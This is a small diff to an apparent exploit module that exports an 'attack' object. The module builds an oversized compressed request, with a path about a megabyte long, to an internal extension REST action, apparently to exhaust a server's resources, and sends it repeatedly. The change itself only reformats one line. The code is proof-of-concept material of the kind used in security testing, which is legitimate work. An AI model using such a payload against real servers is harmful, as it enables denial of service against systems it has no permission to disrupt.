@@ -10,7 +10,10 @@ export const attack = {
     const { extension } = await load(folder, 'actions.js');
     const path = '/a'.repeat(MIB);
     const fields = encode(extension.restExecute.request, { method: 'GET', uri: path, path, mediaType: null }, { version: V_2_19_0 });
-    return compressedRequest('internal:extensions/restexecuteonextensiontaction', deflatedWithinRatio(Buffer.concat([Buffer.of(0), fields])));
+    return compressedRequest(
+      'internal:extensions/restexecuteonextensiontaction',
+      deflatedWithinRatio(Buffer.concat([Buffer.of(0), fields])),
+    );
   },
   run: (attacker, bytes) => attacker.askAgain(4, bytes),
 };
